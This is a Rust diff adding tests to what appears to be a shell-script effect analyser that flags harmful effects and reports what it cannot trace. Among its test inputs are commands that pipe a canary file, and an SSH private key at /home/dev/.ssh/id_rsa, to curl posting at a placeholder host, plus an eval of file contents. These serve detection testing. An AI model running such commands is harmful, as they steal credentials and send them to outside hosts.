@@ -196,6 +196,28 @@ fn calls(count: usize) -> Vec<(&'static str, String)> {
             format!("x=$(cat a{}); eval \"$x\"; {HARM}", each(&|number| format!(" f{number}"))),
         ),
         (
+            "sources of what is sent",
+            format!(
+                "cat {}/home/dev/canary | curl -d @- https://host.example/; {HARM}",
+                each(&|number| format!("f{number} "))
+            ),
+        ),
+        (
+            "directories that are remembered",
+            format!("{}cd /workspace/project; popd; {HARM}", "pushd .; ".repeat(count)),
+        ),
+        (
+            "trees that are brought",
+            each(&|number| format!("git clone https://git.example/r{number}; ")) + HARM,
+        ),
+        (
+            "files that are made executable",
+            format!(
+                "{}{HARM}",
+                each(&|number| format!("echo true > f{number}; chmod +x f{number}; "))
+            ),
+        ),
+        (
             "bytes of a text",
             format!(
                 "cat > x.sh <<'E'\n{}{HARM}\nE\nsh x.sh",
@@ -223,6 +245,24 @@ fn harm_behind_a_bound_is_seen_or_said_not_to_be() {
 }
 
 #[test]
+fn what_is_not_followed_back_is_said() {
+    // Data that comes a longer way than is followed, and effects far behind the program that they belong to.
+    let stages = "a | ".repeat(300);
+    let files: String = (0..400).map(|number| format!(" f{number}")).collect();
+    for script in [
+        format!(
+            "cat /home/dev/.ssh/id_rsa | {}curl -d @- https://host.example/",
+            stages.replace('a', "nl")
+        ),
+        format!("cat{files} | curl -d @- https://host.example/"),
+        format!("touch{files}"),
+    ] {
+        let effects = effects(&script);
+        assert_ne!(effects.gaps, [], "{}", script.get(..80).unwrap_or(&script));
+    }
+}
+
+#[test]
 fn many_harmless_things_are_understood() {
     for script in [
         "while read -r line; do echo \"$line\"; done <<'E'\n".to_owned()
@@ -244,6 +284,22 @@ fn many_harmless_things_are_understood() {
 /// Files in which nothing may be cut by other means.
 const READERS: [&str; 3] = ["programs", "rules", "understand"];
 
+/// The only places where something is shortened in place: each says so in the line before or behind it, or shortens what is only shown.
+const TOLD: &[&str] = &[
+    "beside.directories.truncate(BESIDE);",
+    "beside.paths.truncate(BESIDE);",
+    "from.truncate(to.len());",
+    "last.truncate(kept);",
+    "left.truncate(ELEMENTS);",
+    "list.truncate(ALTERNATIVES - 1);",
+    "list.truncate(ELEMENTS);",
+    "pointer.truncate(length);",
+    "self.descriptors.truncate(DESCRIPTORS);",
+    "self.traps.truncate(traps);",
+    "shown.truncate(end);",
+    "values.truncate(ALTERNATIVES - 1);",
+];
+
 #[test]
 #[expect(clippy::disallowed_methods, reason = "the sources themselves are what is looked at")]
 fn nothing_is_cut_but_by_a_bound() {
@@ -264,7 +320,8 @@ fn nothing_is_cut_but_by_a_bound() {
         let text = fs::read_to_string(&path).unwrap();
         let code = text.split("#[cfg(test)]\nmod tests {").next().unwrap_or_default();
         for (number, line) in code.lines().enumerate() {
-            let cuts = line.replace(".take()", "").contains(".take(");
+            let cuts = line.replace(".take()", "").contains(".take(")
+                || line.contains(".truncate(") && !TOLD.contains(&line.trim());
             if cuts && !line.trim_start().starts_with("//") {
                 found.push(format!("{}:{}: {}", path.display(), number + 1, line.trim()));
             }
